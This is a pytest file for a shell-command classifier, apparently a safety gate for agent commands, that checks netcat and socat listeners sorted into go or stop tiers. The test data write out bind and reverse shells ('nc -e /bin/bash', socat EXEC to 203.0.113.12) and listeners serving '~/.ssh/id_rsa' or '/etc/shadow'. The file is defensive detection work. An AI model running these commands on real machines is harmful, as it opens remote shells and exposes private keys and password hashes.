"""What netcat or socat runs for a peer decides: a shell hands the peer the machine, a fixed reply does not.

`nc -l -p 4444 -e /bin/bash` is a bind shell (stop). `nc -l -p 8080 -c 'echo hello'` answers every
connection with the same text and runs nothing the peer sends (a health-check stub): go. A shell
after the reply, an expansion in it, or a file served (`cat /etc/shadow`) keep the stop.
Look-alikes written here.
"""

from __future__ import annotations

import pytest

from dongle.classify.command import classify_command

LABEL = {"advisory": "go", "confirm": "pause", "verify": "pause", "danger_zone": "stop"}

CASES = [
    ("nc -l -p 8080 -c 'echo hello'", "go"),
    ("nc -lk 8080 -c 'printf \"HTTP/1.1 200 OK\\r\\n\\r\\nok\"'", "go"),
    ("ncat -l 8080 --sh-exec 'echo pong'", "go"),
    ("socat TCP-LISTEN:8080,fork SYSTEM:'printf ok'", "go"),
    ("nc -l -p 4444 -e /bin/bash", "stop"),
    ("nc -l -p 4444 -c 'echo hi; bash -i'", "stop"),
    ("nc -l -p 4444 -c 'echo $(cat ~/.ssh/id_rsa)'", "stop"),
    ("nc -l 8080 -c 'cat /etc/shadow'", "stop"),
    ("socat TCP:203.0.113.12:4443 EXEC:/bin/bash", "stop"),
]


@pytest.mark.parametrize(("command", "expected"), CASES, ids=lambda v: str(v)[:60])
def test_socket_fixed_reply(command: str, expected: str) -> None:
    assert LABEL[classify_command(command, "/home/dev/api", {"HOME": "/home/dev"}).tier.value] == expected
